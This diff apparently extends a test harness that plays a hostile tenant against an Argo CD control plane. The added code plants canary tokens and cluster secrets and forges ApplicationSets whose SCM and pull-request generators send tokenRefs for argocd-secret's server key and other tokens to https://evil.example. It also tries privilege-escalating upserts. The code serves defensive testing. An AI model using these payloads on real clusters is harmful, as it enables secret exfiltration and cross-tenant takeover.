@@ -25,6 +25,11 @@ const KEY_SUFFIX: &str = "-signing-key";
 const VICTIM: &str = "team-0";
 /// An object there that no Application deployed.
 const VAULT: &str = "vault";
+/// A plugin of that project's, and its address.
+const VAULT_PLUGIN: &str = "vault-plugin";
+pub(super) const VAULT_PLUGIN_URL: &str = "https://plugin.vault.example";
+/// The ApplicationSet that the tenant makes.
+const SET: &str = "hostile-set";
 
 const JSON: &str = "application/json";
 const MERGE: &str = "application/merge-patch+json";
@@ -73,10 +78,11 @@ impl Account {
             &json!({"apiVersion": "v1", "kind": "ConfigMap",
                 "metadata": {"name": "argocd-rbac-cm", "labels": label}, "data": {"policy.csv": lines}}),
         );
-        account.merge(
-            &format!("{core}/configmaps/argocd-cm"),
-            &json!({"data": {format!("accounts.{NAME}"): "apiKey"}}),
-        );
+        let mut settings = json!({format!("accounts.{NAME}"): "apiKey"});
+        for (name, value) in super::costs::SETTINGS {
+            settings[name] = json!(value);
+        }
+        account.merge(&format!("{core}/configmaps/argocd-cm"), &json!({"data": settings}));
         let switches = json!({"hydrator.enabled": "true"});
         let parameters = json!({"apiVersion": "v1", "kind": "ConfigMap",
             "metadata": {"name": "argocd-cmd-params-cm", "labels": label}, "data": switches});
@@ -93,6 +99,7 @@ impl Account {
                 "stringData": {"server.secretkey": key, format!("accounts.{NAME}.tokens"): tokens}}),
         );
         account.plant();
+        account.plant_in_control_plane();
         account
     }
 
@@ -131,6 +138,70 @@ impl Account {
         }
     }
 
+    /// A cluster of the tenant's with the name of the local one, a plugin and a token of another project's, and a shared
+    /// token, which may go to the provider's own address.
+    fn plant_in_control_plane(&self) {
+        let canary = self.wires.observer.lock().model.canary.clone();
+        let core = format!("/api/v1/namespaces/{CONTROL_PLANE}");
+        let secret = |name: &str, kind: &str, data: Value| {
+            json!({"apiVersion": "v1", "kind": "Secret",
+                "metadata": {"name": name, "labels": {"argocd.argoproj.io/secret-type": kind}},
+                "stringData": data})
+        };
+        let cluster = json!({"name": "in-cluster", "server": FROZEN, "project": PROJECT, "config": "{}"});
+        for secret in [
+            secret("hostile-cluster", "cluster", cluster),
+            secret("vault-token", "scm-creds", json!({"token": canary, "project": "team"})),
+            secret("shared-token", "scm-creds", json!({"token": canary})),
+        ] {
+            self.direct(Method::POST, &format!("{core}/secrets"), &secret);
+        }
+        let plugin = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": VAULT_PLUGIN},
+            "data": {"baseUrl": VAULT_PLUGIN_URL, "token": "$vault-token:token", "project": "team"}});
+        self.direct(Method::POST, &format!("{core}/configmaps"), &plugin);
+    }
+
+    /// An ApplicationSet that has something sent that is not the tenant's. Some exist already, as if a server of another
+    /// version had let them in.
+    fn forge_set(&mut self) -> Option<String> {
+        if self.chance.permille(700) {
+            return None;
+        }
+        let set = self.some_set();
+        let path = format!("/apis/argoproj.io/v1alpha1/namespaces/{CONTROL_PLANE}/applicationsets");
+        let status = match self.direct(Method::POST, &path, &set) {
+            409 => self.direct(Method::DELETE, &format!("{path}/{SET}"), &Value::Null),
+            status => status,
+        };
+        Some(format!("{SET} is {}: {status}", set["spec"]["generators"]))
+    }
+
+    fn some_set(&mut self) -> Value {
+        let tokens = [
+            ("argocd-secret", "server.secretkey"),
+            ("frozen", "config"),
+            ("vault-token", "token"),
+            ("shared-token", "token"),
+        ];
+        let (secret, key) = self.chance.pick(&tokens).copied().unwrap_or_default();
+        let token = json!({"secretName": secret, "key": key});
+        let api = "https://evil.example";
+        let generator = match self.chance.below(5) {
+            0 => json!({"scmProvider": {"github": {"organization": "o", "api": api, "tokenRef": token}}}),
+            1 => json!({"scmProvider": {"gitea": {"owner": "o", "api": api, "tokenRef": token}}}),
+            2 => json!({"pullRequest": {"gitlab": {"project": "1", "api": api, "tokenRef": token}}}),
+            3 => json!({"plugin": {"configMapRef": {"name": VAULT_PLUGIN}}}),
+            _ => json!({"clusterDecisionResource": {"configMapRef": "argocd-cm", "name": "x"}}),
+        };
+        let project = if self.chance.permille(500) { json!(PROJECT) } else { Value::Null };
+        json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "ApplicationSet",
+            "metadata": {"name": SET, "namespace": CONTROL_PLANE},
+            "spec": {"project": project, "generators": [generator],
+                "template": {"metadata": {"name": "hostile-of-set"}, "spec": {"project": PROJECT,
+                    "source": {"repoURL": OWN, "path": "hostile-0", "targetRevision": "main"},
+                    "destination": {"server": SERVER, "namespace": PROJECT}}}}})
+    }
+
     /// Makes an Application of the tenant claim what is not its own: by its tracking method, and by a status that no
     /// controller wrote and none corrects.
     pub(super) fn forge(&mut self, app: &str) -> String {
@@ -146,7 +217,11 @@ impl Account {
                 json!({"version": "v1", "kind": "Namespace", "name": VICTIM, "status": "Synced"})]},
         });
         let status = self.merge(&path_of(app), &patch);
-        format!("{app} claims what is not its own (skips: {skips}, {method:?}): {status}")
+        let done = format!("{app} claims what is not its own (skips: {skips}, {method:?}): {status}");
+        match self.forge_set() {
+            Some(set) => format!("{done}; {set}"),
+            None => done,
+        }
     }
 
     /// Tries something; what was tried, and the status of the answer.
@@ -283,8 +358,9 @@ impl Account {
         let destination = json!({"server": SERVER, "namespace": PROJECT});
         let source = json!({"repoURL": OWN, "path": "hostile-0", "targetRevision": "main"});
         let post = |path: &str, body: Value| ApiCall::new(Method::POST, format!("/api/v1/{path}"), body);
-        match self.chance.below(8) {
-            0 => post(
+        match self.chance.below(9) {
+            // A name that is free may be taken.
+            0 if self.wires.get(&path_of("app-0")).is_some() => post(
                 "applications?upsert=true&validate=false",
                 json!({"metadata": {"name": "app-0"},
                 "spec": {"project": PROJECT, "source": source, "destination": destination}}),
@@ -315,6 +391,15 @@ impl Account {
                 json!({"upsert": true, "project": {"metadata": {"name": "team"},
                 "spec": {"sourceRepos": ["*"], "destinations": [{"server": "*", "namespace": "*"}]}}}),
             ),
+            7 => {
+                let set = self.some_set();
+                let path = *self
+                    .chance
+                    .pick(&["applicationsets?upsert=true", "applicationsets/generate"])
+                    .unwrap_or(&"applicationsets");
+                let body = if path.ends_with("generate") { json!({"applicationSet": set}) } else { set };
+                post(path, body)
+            }
             _ => post(
                 "applicationsets?upsert=true",
                 json!({"metadata": {"name": "set"},
